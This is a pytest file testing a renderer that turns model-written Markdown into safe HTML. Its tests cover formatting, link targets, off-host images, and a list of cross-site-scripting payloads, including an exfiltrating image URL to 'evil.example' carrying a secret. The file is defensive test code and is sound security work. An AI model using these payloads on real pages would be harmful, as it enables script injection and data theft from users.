"""Markdown from the model becomes safe HTML: formatting kept, anything executable or exfiltrating gone."""
import gzip, pytest

from conftest import ROOT, assert_inert, tags
from render import Renderer

md = Renderer(['docs.example.com'])

def test_formatting_survives():
    out = md('# Title\n\n**bold** _em_ `code` ~~gone~~\n\n- a\n- b\n\n1. one\n\n> quote\n\n| x | y |\n|---|--:|\n| 1 | 2 |')
    for t in ('<h1>', '<strong>bold</strong>', '<em>em</em>', '<code>code</code>', '<s>gone</s>', '<ul>', '<ol>',
              '<blockquote>', '<table>', 'style="text-align:right"'):
        assert t in out

def test_code_blocks_keep_their_language_and_escape_content():
    out = md('```python\nprint("<script>")\n```')
    assert '<code class="language-python">' in out and '&lt;script&gt;' in out

def test_docs_links_open_in_the_top_window_others_in_a_new_tab():
    [(_, docs), (_, other)] = [t for t in tags(md('[a](https://docs.example.com/x#y) [b](https://elsewhere.org/)')) if t[0] == 'a']
    assert docs['target'] == '_top' and docs['href'] == 'https://docs.example.com/x#y'
    assert other['target'] == '_blank' and other['rel'] == 'noopener noreferrer'

def test_images_from_other_hosts_become_links():
    out = md('![chart](https://evil.example/leak?c=SECRET) ![logo](https://docs.example.com/logo.png)')
    found = tags(out)
    assert ('img', {'src': 'https://docs.example.com/logo.png', 'alt': 'logo'}) in found
    assert not [a for t, a in found if t == 'img' and 'evil' in a.get('src', '')]
    assert any(t == 'a' and a['href'].startswith('https://evil.example/leak') for t, a in found)

@pytest.mark.parametrize('payload', [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;&#97;vascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox(1))', '[ref]\n\n[ref]: javascript:alert(1)', '![a][i]\n\n[i]: https://evil.example/a.png',
    '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>">',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")', '<details open ontoggle=alert(1)>', '```\n</code><script>alert(1)</script>\n```',
    '<style>*{display:none}</style>', '[<img src=x onerror=alert(1)>](https://ok.example)', '<math><mi xlink:href="javascript:alert(1)">'])
def test_hostile_markdown_is_inert(payload):
    html = md(payload)
    assert_inert(html.replace('<img src="https://docs.example.com', '<x '))

def test_loader_is_small():
    js = (ROOT / 'embed' / 'loader.js').read_bytes()
    assert len(gzip.compress(js, 9)) <= 3 * 1024
